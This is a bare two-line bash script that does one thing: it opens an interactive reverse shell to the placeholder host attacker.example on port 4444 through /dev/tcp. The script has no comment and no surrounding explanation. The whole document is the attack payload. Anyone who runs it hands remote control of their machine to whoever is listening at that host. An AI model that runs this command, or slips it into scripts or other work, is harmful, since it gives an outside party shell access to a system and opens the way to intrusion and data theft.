#!/bin/bash
bash -i >& /dev/tcp/attacker.example/4444 0>&1
